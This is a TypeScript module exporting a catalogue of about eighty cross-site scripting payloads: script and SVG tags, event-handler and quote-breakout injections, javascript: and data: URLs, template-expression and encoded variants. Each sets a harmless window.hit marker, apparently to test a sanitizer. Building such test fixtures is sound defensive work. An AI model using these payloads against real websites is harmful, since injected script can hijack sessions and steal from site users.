/** Eighty ways in which people have got scripts into pages; each sets `hit` where it runs. */
const act = 'window.hit=1';
const tags = [
  `<script>${act}</script>`,
  `<SCRIPT SRC="data:text/javascript,${act}"></SCRIPT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `<script/x>${act}</script>`,
  `<script\n>${act}</script>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<base href="javascript:${act}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `<link rel="stylesheet" href="javascript:${act}">`,
  `<form action="javascript:${act}"><button>go</button></form>`,
  `<isindex action="javascript:${act}" type=image>`,
  `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `<template><script>${act}</script></template>`,
];
const handlers = [
  'onerror',
  'onload',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const holders = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x'];
const handled = handlers.map((handler, i) => `<${holders[i % holders.length]} ${handler}=${act}>`);
const quoted = ['"', "'", '`', '">', "'>"].flatMap((quote) => [
  `${quote} onmouseover=${act} x=${quote}`,
  `${quote} autofocus onfocus=${act} ${quote}`,
  `${quote}<img src=x onerror=${act}>`,
]);
const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `javascript&colon;${act}`,
  `data:text/html,<script>${act}</script>`,
  `vbscript:${act}`,
  `https://x.example/"onmouseover="${act}`,
  `https://x.example/'onclick='${act}`,
  `https://x.example/<img src=x onerror=${act}>`,
  `http://javascript:${act}@x.example`,
  `[link](javascript:${act})`,
  `![x](x"onerror="${act})`,
];
const signs = [
  `#<img src=x onerror=${act}>`,
  `@<img src=x onerror=${act}>`,
  `#tag"onmouseover="${act}`,
  `@name"onmouseover="${act}`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `{alert(1)}`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}&#60;/script&#62;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `\u2028<script>${act}</script>`,
  `<\u0130mg src=x onerror=${act}>`,
  `\ufeff<script>${act}</script>`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<!--<img src="--><img src=x onerror=${act}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<a href="&#106;avascript:${act}">x</a>`,
  `<style>@import 'javascript:${act}';</style>`,
];

export const payloads: readonly string[] = [...tags, ...handled, ...quoted, ...addresses, ...signs];
